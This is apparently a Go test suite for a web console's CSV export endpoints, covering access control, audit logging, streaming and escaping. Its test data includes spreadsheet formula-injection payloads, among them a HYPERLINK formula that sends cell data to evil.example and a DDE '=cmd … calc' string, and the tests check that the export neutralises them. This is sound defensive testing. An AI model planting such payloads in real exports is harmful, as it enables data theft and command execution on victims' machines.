package web_test

import (
	"context"
	"encoding/csv"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	. "github.com/switchboardhq/switchboard/internal/apptest"
	"github.com/switchboardhq/switchboard/store"
)

// hostile are names a spreadsheet would run as formulas, with what the
// export must write instead.
var hostile = map[string]string{
	`=HYPERLINK("http://evil.example/?"&A1,"Click")`: `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
	"+1":         "'+1",
	"@SUM(1+1)":  "'@SUM(1+1)",
	"-2+3":       "'-2+3",
	"\tcmd":      "'\tcmd",
	"\rcmd":      "'\rcmd",
	"plain name": "plain name",
}

// tricky survives encoding/csv's quoting unchanged.
const tricky = "Smith, \"Jo\"\nsecond line; ünïcødé"

// exportCSV downloads a CSV as c and parses it into its header and rows by
// the header's column names.
func exportCSV(t *testing.T, c *Console, path string) (header []string, rows []map[string]string) {
	t.Helper()
	p := c.Get(path).Want(http.StatusOK)
	if ct := p.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Fatalf("%s: Content-Type got %q, want text/csv; charset=utf-8", path, ct)
	}
	if cd := p.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment; filename=") || !strings.HasSuffix(cd, `.csv"`) {
		t.Fatalf("%s: Content-Disposition got %q, want an attachment named …csv", path, cd)
	}
	recs, err := csv.NewReader(strings.NewReader(p.Body)).ReadAll()
	if err != nil {
		t.Fatalf("%s: parsing the CSV: %v\n%s", path, err, p.Body)
	}
	if len(recs) == 0 {
		t.Fatalf("%s: no header row", path)
	}
	header = recs[0]
	for _, rec := range recs[1:] {
		m := map[string]string{}
		for i, h := range header {
			m[h] = rec[i]
		}
		rows = append(rows, m)
	}
	return header, rows
}

func column(rows []map[string]string, name string) []string {
	var out []string
	for _, r := range rows {
		out = append(out, r[name])
	}
	return out
}

func mustExec(t *testing.T, app *App, q string, args ...any) {
	t.Helper()
	if _, err := app.Pool.Exec(context.Background(), q, args...); err != nil {
		t.Fatalf("%s: %v", q, err)
	}
}

func TestExportCustomers(t *testing.T) {
	t.Parallel()
	app := New(t)
	for name := range hostile {
		mustExec(t, app, `INSERT INTO accounts (name, email) VALUES ($1, $2)`, name, NewID("h")+"@hostile.example")
	}
	mustExec(t, app, `INSERT INTO accounts (name, email, plan_tier) VALUES ($1, 'tricky@quoted.example', 'pro')`, tricky)
	support := app.SignIn(store.UserSupport)

	header, rows := exportCSV(t, support, "/customers.csv?q=hostile.example")
	if want := []string{"id", "name", "email", "role", "plan_tier", "payment_state", "stripe_customer_id",
		"stripe_account_id", "crm_contact_id", "crm_sync_status", "created_at"}; !slices.Equal(header, want) {
		t.Fatalf("header: got %q, want %q", header, want)
	}
	got := column(rows, "name")
	slices.Sort(got)
	var want []string
	for _, v := range hostile {
		want = append(want, v)
	}
	slices.Sort(want)
	if !slices.Equal(got, want) {
		t.Errorf("names (filtered by q): got %q, want %q", got, want)
	}

	_, rows = exportCSV(t, support, "/customers.csv?q=tricky%40quoted.example")
	if len(rows) != 1 || rows[0]["name"] != tricky || rows[0]["plan_tier"] != "pro" {
		t.Errorf("tricky row: got %q, want one row named %q on pro", rows, tricky)
	}
	if n := app.Count(`SELECT count(*) FROM audit_log WHERE action = 'export.customers' AND actor = $1
		AND detail->'filters'->>'q' = 'hostile.example' AND (detail->>'rows')::int = $2 AND (detail->>'complete')::bool`,
		support.User.Email, len(hostile)); n != 1 {
		t.Errorf("audit entries for the export: got %d, want 1", n)
	}
}

func TestExportOrders(t *testing.T) {
	t.Parallel()
	app := New(t)
	mustExec(t, app, `INSERT INTO accounts (name, email) VALUES ('=cmd|'' /C calc''!A0', 'buyer@example.com')`)
	mustExec(t, app, `INSERT INTO orders (reference, status, payment, amount, currency, buyer_account_id)
		VALUES ('ORD-1', 'paid', 'succeeded', 4200, 'usd', (SELECT id FROM accounts WHERE email = 'buyer@example.com')),
		       ('+ORD-2', 'paid', 'succeeded', 3500, 'jpy', NULL),
		       ('ORD-3', 'refunded', 'succeeded', 990, 'eur', NULL)`)
	admin := app.SignIn(store.UserAdmin)

	_, all := exportCSV(t, admin, "/orders.csv")
	if got := column(all, "reference"); !slices.Equal(got, []string{"ORD-3", "'+ORD-2", "ORD-1"}) {
		t.Errorf("all orders, newest first: got %q", got)
	}
	header, paid := exportCSV(t, admin, "/orders.csv?status=paid")
	if !slices.Contains(header, "amount") || !slices.Contains(header, "currency") {
		t.Fatalf("header: got %q, want amount and currency", header)
	}
	if len(paid) != 2 {
		t.Fatalf("paid orders: got %d rows, want 2: %q", len(paid), paid)
	}
	if r := paid[0]; r["amount"] != "3500" || r["currency"] != "JPY" || r["reference"] != "'+ORD-2" {
		t.Errorf("JPY order: got %q, want 3500 JPY, reference neutralised", r)
	}
	if r := paid[1]; r["amount"] != "42.00" || r["currency"] != "USD" || r["buyer_name"] != "'=cmd|' /C calc'!A0" ||
		r["buyer_email"] != "buyer@example.com" || r["status"] != "paid" {
		t.Errorf("USD order: got %q", r)
	}
	admin.Get("/orders.csv?status=nonsense").Want(http.StatusBadRequest)
}

func TestExportDisputes(t *testing.T) {
	t.Parallel()
	app := New(t)
	mustExec(t, app, `INSERT INTO accounts (name, email) VALUES ('@evil', 'disputer@example.com')`)
	mustExec(t, app, `INSERT INTO disputes (stripe_dispute_id, status, queue_state, amount, currency, reason, evidence_due_by, account_id)
		VALUES ('dp_open_late', 'needs_response', 'open', 1000, 'usd', 'fraudulent', now() + interval '5 days', (SELECT max(id) FROM accounts)),
		       ('dp_open_soon', 'needs_response', 'open', 2500, 'usd', 'product_not_received', now() + interval '1 day', NULL),
		       ('dp_closed', 'won', 'closed', 700, 'gbp', 'duplicate', NULL, NULL)`)
	support := app.SignIn(store.UserSupport)

	_, open := exportCSV(t, support, "/disputes.csv")
	if got := column(open, "stripe_dispute_id"); !slices.Equal(got, []string{"dp_open_soon", "dp_open_late"}) {
		t.Errorf("open queue, nearest deadline first: got %q", got)
	}
	if r := open[1]; r["customer_name"] != "'@evil" || r["amount"] != "10.00" || r["currency"] != "USD" || r["evidence_due_by"] == "" {
		t.Errorf("open dispute: got %q", r)
	}
	_, closed := exportCSV(t, support, "/disputes.csv?queue=closed")
	if got := column(closed, "stripe_dispute_id"); !slices.Equal(got, []string{"dp_closed"}) {
		t.Errorf("closed queue: got %q", got)
	}
	support.Get("/disputes.csv?queue=all").Want(http.StatusBadRequest)
}

func TestExportTickets(t *testing.T) {
	t.Parallel()
	app := New(t)
	mustExec(t, app, `INSERT INTO tickets (requester_email, channel, subject, body, queue, status, tags)
		VALUES ('a@example.com', 'api', '=1+1', 'body stays out', 'billing', 'open', '{refund,urgent}'),
		       ('b@example.com', 'email', $1, 'x', 'billing', 'solved', '{}'),
		       ('c@example.com', 'api', 'Key sk_live_abcdefghijklmnopqrstuvwx leaked', 'x', 'general', 'open', '{}')`, tricky)
	support := app.SignIn(store.UserSupport)

	header, rows := exportCSV(t, support, "/tickets.csv?queue=billing")
	if slices.Contains(header, "body") {
		t.Errorf("header: got %q, want no body column", header)
	}
	if got := column(rows, "subject"); !slices.Equal(got, []string{tricky, "'=1+1"}) {
		t.Errorf("billing subjects: got %q", got)
	}
	if rows[1]["tags"] != "refund urgent" {
		t.Errorf("tags: got %q, want refund urgent", rows[1]["tags"])
	}
	_, rows = exportCSV(t, support, "/tickets.csv?queue=billing&status=open")
	if got := column(rows, "requester_email"); !slices.Equal(got, []string{"a@example.com"}) {
		t.Errorf("billing open: got %q", got)
	}
	_, rows = exportCSV(t, support, "/tickets.csv?queue=general")
	if len(rows) != 1 || strings.Contains(rows[0]["subject"], "sk_live_") {
		t.Errorf("general: got %q, want one row with the key redacted", rows)
	}
	support.Get("/tickets.csv?status=nonsense").Want(http.StatusBadRequest)
}

func TestExportRefusesSellers(t *testing.T) {
	t.Parallel()
	app := New(t)
	seller := app.SignIn(store.UserSeller)
	for _, list := range []string{"customers", "orders", "disputes", "tickets"} {
		p := seller.Get("/" + list + ".csv")
		if p.Status != http.StatusForbidden && p.Status != http.StatusNotFound {
			t.Errorf("seller GET /%s.csv: got %d, want 403 or 404", list, p.Status)
		}
		if strings.Contains(p.Header.Get("Content-Type"), "csv") {
			t.Errorf("seller GET /%s.csv: got a CSV", list)
		}
	}
	if n := app.Count(`SELECT count(*) FROM audit_log WHERE action LIKE 'export.%'`); n != 0 {
		t.Errorf("audit entries: got %d, want none", n)
	}
}

// TestExportStreamsLargeList exports more rows than several keyset pages hold
// and checks every row arrives once, in order.
func TestExportStreamsLargeList(t *testing.T) {
	t.Parallel()
	app := New(t)
	const n = 3200
	mustExec(t, app, `INSERT INTO accounts (name, email) SELECT 'Bulk ' || i, 'bulk' || i || '@bulk.example' FROM generate_series(1, $1) i`, n)
	mustExec(t, app, `INSERT INTO orders (reference, status, payment, amount, currency)
		SELECT 'BULK-' || i, 'paid', 'succeeded', i, 'usd' FROM generate_series(1, $1) i`, n)
	admin := app.SignIn(store.UserAdmin)
	for _, path := range []string{"/customers.csv?q=bulk.example", "/orders.csv?status=paid"} {
		_, rows := exportCSV(t, admin, path)
		if len(rows) != n {
			t.Fatalf("%s: got %d rows, want %d", path, len(rows), n)
		}
		prev := int64(1 << 62)
		for _, r := range rows {
			id, err := strconv.ParseInt(r["id"], 10, 64)
			if err != nil || id >= prev {
				t.Fatalf("%s: id %q after %d: want strictly descending IDs", path, r["id"], prev)
			}
			prev = id
		}
	}
	if got := app.Count(`SELECT count(*) FROM audit_log WHERE action IN ('export.customers', 'export.orders')
		AND (detail->>'rows')::int = $1`, n); got != 2 {
		t.Errorf("audit entries with %d rows: got %d, want 2", n, got)
	}
}

// TestExportCutShortFails breaks the store halfway through a long export: the
// download must fail (no clean end of the stream), not look complete, and the
// audit log must say so.
func TestExportCutShortFails(t *testing.T) {
	t.Parallel()
	app := New(t)
	// Enough bytes that the server is still writing when the table goes.
	mustExec(t, app, `INSERT INTO accounts (name, email) SELECT 'Cut ' || i || ' ' || repeat('x', 500), 'cut' || i || '@cut.example'
		FROM generate_series(1, 40000) i`)
	admin := app.SignIn(store.UserAdmin)
	req, _ := http.NewRequest(http.MethodGet, app.Server.URL+"/customers.csv?q=cut.example", nil)
	resp, err := admin.Client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status: got %d, want 200", resp.StatusCode)
	}
	if _, err := io.CopyN(io.Discard, resp.Body, 1<<20); err != nil {
		t.Fatalf("reading the first MiB: %v", err)
	}
	mustExec(t, app, `ALTER TABLE accounts RENAME TO accounts_gone`)
	t.Cleanup(func() { mustExec(t, app, `ALTER TABLE accounts_gone RENAME TO accounts`) })
	n, err := io.Copy(io.Discard, resp.Body)
	if err == nil {
		t.Fatalf("the rest of the download (%d bytes): got a clean end, want an error", n)
	}
	app.Eventually(5*time.Second, "the cut-short export audited", func() bool {
		return app.Count(`SELECT count(*) FROM audit_log WHERE action = 'export.customers'
			AND NOT (detail->>'complete')::bool AND (detail->>'rows')::int < 40000`) == 1
	})
}

// TestExportLinksCarryFilters checks each list's "Download CSV" link keeps the
// page's filters.
func TestExportLinksCarryFilters(t *testing.T) {
	t.Parallel()
	app := New(t)
	support := app.SignIn(store.UserSupport)
	for page, want := range map[string]string{
		"/customers":                             "/customers.csv",
		"/customers?q=" + url.QueryEscape("a b"): "/customers.csv?q=a+b",
		"/orders?status=paid":                    "/orders.csv?status=paid",
		"/disputes?queue=closed":                 "/disputes.csv?queue=closed",
		"/disputes":                              "/disputes.csv?queue=open",
		"/tickets?queue=billing&status=open":     "/tickets.csv?queue=billing&status=open",
	} {
		p := support.Get(page).Want(http.StatusOK)
		if got, _ := p.Find("export-csv").Attr("href"); got != want {
			t.Errorf("%s: Download CSV href got %q, want %q", page, got, want)
		}
	}
}
